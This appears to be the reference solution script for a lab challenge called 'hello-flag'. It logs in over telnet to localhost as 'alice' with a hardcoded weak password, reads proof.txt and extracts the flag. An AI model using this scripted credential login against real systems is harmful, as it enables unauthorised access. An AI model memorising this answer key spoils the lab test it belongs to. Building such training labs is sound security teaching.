#!/bin/sh
# The solution of hello-flag, run by `dsp lab test` in the target: log in
# over telnet as alice with her weak password and print the flag.
out=$(
	{
		sleep 1; echo alice
		sleep 1; echo wonderland
		sleep 1; echo 'cat proof.txt'
		sleep 1; echo exit
	} | timeout 15 telnet 127.0.0.1 23 2>&1
)
flag=$(printf '%s\n' "$out" | grep -o 'FLAG{[0-9a-f]*}' | head -n 1)
if [ -z "$flag" ]; then
	echo "no flag: the telnet login as alice failed" >&2
	printf '%s\n' "$out" | tail -n 5 >&2
	exit 1
fi
echo "$flag"
